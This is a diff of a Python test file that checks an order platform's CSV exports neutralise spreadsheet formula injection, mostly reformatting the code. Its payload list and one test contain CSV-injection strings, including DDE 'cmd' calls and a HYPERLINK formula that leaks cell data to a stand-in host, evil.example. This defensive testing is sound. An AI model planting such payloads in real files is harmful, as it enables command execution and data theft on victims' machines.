@@ -10,6 +10,7 @@ from __future__ import annotations
 import csv
 import io
 import re
+from datetime import UTC
 from decimal import Decimal
 from pathlib import Path
 
@@ -23,7 +24,7 @@ from orderhub.formats.catalog_csv import CSV_COLUMNS, neutralize_csv_cell, write
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 PAYLOADS = [
     "=cmd|' /C calc'!A0",
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klick\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"Klick")',
     "+SUM(1+1)*cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -38,9 +39,16 @@ def _rows(data: bytes, delimiter=";", encoding="utf-8"):
 
 
 def _article(value: str, **overrides) -> CatalogArticle:
-    fields = dict(partner_article_number="SAFE-1", short_description=value, long_description=value,
-                  manufacturer_name=value, manufacturer_article_number=value, order_unit="C62",
-                  price=Decimal("-1.50"), attributes={"colour": value, "model": value, "category": value})
+    fields = dict(
+        partner_article_number="SAFE-1",
+        short_description=value,
+        long_description=value,
+        manufacturer_name=value,
+        manufacturer_article_number=value,
+        order_unit="C62",
+        price=Decimal("-1.50"),
+        attributes={"colour": value, "model": value, "category": value},
+    )
     fields.update(overrides)
     return CatalogArticle(**fields)
 
@@ -52,15 +60,26 @@ def _folded(value: str) -> str:
 def _assert_no_formula(rows):
     for row in rows[1:]:
         for label, cell in zip((c[0] for c in CSV_COLUMNS), row, strict=True):
-            assert not cell.startswith(FORMULA_START), f"column {label!r} starts a formula: {cell!r}"
+            assert not cell.startswith(FORMULA_START), (
+                f"column {label!r} starts a formula: {cell!r}"
+            )
 
 
 @pytest.mark.parametrize("payload", PAYLOADS, ids=lambda p: repr(p[:12]))
-@pytest.mark.parametrize("delimiter, encoding", [(";", "utf-8"), (",", "utf-8-sig"), (";", "cp1252")])
+@pytest.mark.parametrize(
+    "delimiter, encoding", [(";", "utf-8"), (",", "utf-8-sig"), (";", "cp1252")]
+)
 def test_write_csv_neutralises_formulas_in_every_column(payload, delimiter, encoding):
     out = io.BytesIO()
-    assert write_csv([_article(payload), _article(payload, partner_article_number=payload)], out,
-                     delimiter=delimiter, encoding=encoding) == 2
+    assert (
+        write_csv(
+            [_article(payload), _article(payload, partner_article_number=payload)],
+            out,
+            delimiter=delimiter,
+            encoding=encoding,
+        )
+        == 2
+    )
     rows = _rows(out.getvalue(), delimiter, encoding)
     _assert_no_formula(rows)
     description = rows[1][[c[0] for c in CSV_COLUMNS].index("Kurzbeschreibung")]
@@ -70,7 +89,11 @@ def test_write_csv_neutralises_formulas_in_every_column(payload, delimiter, enco
 
 def test_written_csv_reads_back_to_the_original_values(tmp_path):
     """Neutralising must not corrupt data: OrderHub's own reader strips the quote again."""
-    articles = [_article(p, partner_article_number=f"A-{i}") for i, p in enumerate(PAYLOADS) if "\r" not in p]
+    articles = [
+        _article(p, partner_article_number=f"A-{i}")
+        for i, p in enumerate(PAYLOADS)
+        if "\r" not in p
+    ]
     path = tmp_path / "catalog.csv"
     with open(path, "wb") as out:
         write_csv(articles, out)
@@ -99,23 +122,43 @@ def test_no_written_cell_ever_starts_a_formula(text, prefix):
 
 
 def test_a_catalog_uploaded_with_formulas_is_stored_as_text_and_exported_neutralised(
-        world, django_capture_on_commit_callbacks):
+    world, django_capture_on_commit_callbacks
+):
     """End to end: a partner uploads formulas, OrderHub stores them verbatim, CSV output is safe."""
     from orderhub.catalog.models import Article
     from tests.security.test_xml_attacks import upload_catalog
 
     source = io.BytesIO()
-    write_csv([_article(p, partner_article_number=f"EVIL-{i}") for i, p in enumerate(PAYLOADS) if "\r" not in p],
-              source)
-    r, job = upload_catalog(world.partner_tokens["otoplast"], source.getvalue(), django_capture_on_commit_callbacks)
+    write_csv(
+        [
+            _article(p, partner_article_number=f"EVIL-{i}")
+            for i, p in enumerate(PAYLOADS)
+            if "\r" not in p
+        ],
+        source,
+    )
+    r, job = upload_catalog(
+        world.partner_tokens["otoplast"], source.getvalue(), django_capture_on_commit_callbacks
+    )
     assert r.status_code == 202 and job.status == "succeeded", (r.json_body, job and job.error)
-    stored = list(Article.objects.filter(partner__slug="otoplast").order_by("partner_article_number"))
+    stored = list(
+        Article.objects.filter(partner__slug="otoplast").order_by("partner_article_number")
+    )
     assert {a.short_description for a in stored} == {_folded(p) for p in PAYLOADS if "\r" not in p}
 
     exported = io.BytesIO()
-    write_csv([CatalogArticle(partner_article_number=a.partner_article_number, short_description=a.short_description,
-                              long_description=a.long_description, attributes=a.attributes) for a in stored],
-              exported)
+    write_csv(
+        [
+            CatalogArticle(
+                partner_article_number=a.partner_article_number,
+                short_description=a.short_description,
+                long_description=a.long_description,
+                attributes=a.attributes,
+            )
+            for a in stored
+        ],
+        exported,
+    )
     _assert_no_formula(_rows(exported.getvalue()))
 
 
@@ -134,10 +177,11 @@ def test_every_csv_writer_in_the_product_goes_through_write_csv():
 
 # --- the product's CSV export (dashboard order list) -------------------------------------------------
 
+
 def test_order_export_neutralises_formulas_from_the_practice_and_the_partner(world):
     """``/dashboard/bestellungen/export.csv``: practice text (references, ids) and partner text
     (tracking numbers from a dispatch notification) never start a formula in the file."""
-    from datetime import datetime, timezone
+    from datetime import datetime
 
     from orderhub.formats import partner_json
     from orderhub.formats.documents import AnswerLine, PartnerAnswer
@@ -146,18 +190,28 @@ def test_order_export_neutralises_formulas_from_the_practice_and_the_partner(wor
 
     if "dashboard/bestellungen/export.csv" not in {str(p.pattern) for p in _order_urlpatterns()}:
         pytest.skip("no order CSV export route")
-    r = submit(world.a.api, order_body("=cmd|' /C calc'!A0", reference="+SUM(1+1)*cmd|' /C calc'!A0",
-                                       note="-2+3"), key="csv-injection")
+    r = submit(
+        world.a.api,
+        order_body("=cmd|' /C calc'!A0", reference="+SUM(1+1)*cmd|' /C calc'!A0", note="-2+3"),
+        key="csv-injection",
+    )
     assert r.status_code == 201, r.json_body
 
     sent = world.a.orders["sent"]
-    answer = PartnerAnswer(kind="dispatch_notification", order_number=sent.number, document_id="DESADV-CSV",
-                           issued_at=datetime.now(timezone.utc), tracking_numbers=["=HYPERLINK(\"http://evil.example\")",
-                                                                                   "@SUM(1)"],
-                           carrier="-1+1", lines=[AnswerLine(line_no=1, status="shipped", quantity=Decimal(2))])
-    r = ApiClient(world.partner_tokens["sonora"]).post("/api/v1/partner/documents",
-                                                       raw=partner_json.write_answer(answer),
-                                                       content_type="application/json")
+    answer = PartnerAnswer(
+        kind="dispatch_notification",
+        order_number=sent.number,
+        document_id="DESADV-CSV",
+        issued_at=datetime.now(UTC),
+        tracking_numbers=['=HYPERLINK("http://evil.example")', "@SUM(1)"],
+        carrier="-1+1",
+        lines=[AnswerLine(line_no=1, status="shipped", quantity=Decimal(2))],
+    )
+    r = ApiClient(world.partner_tokens["sonora"]).post(
+        "/api/v1/partner/documents",
+        raw=partner_json.write_answer(answer),
+        content_type="application/json",
+    )
     assert r.status_code == 202, r.content[:300]
 
     response = world.a.browser.get("/dashboard/bestellungen/export.csv")
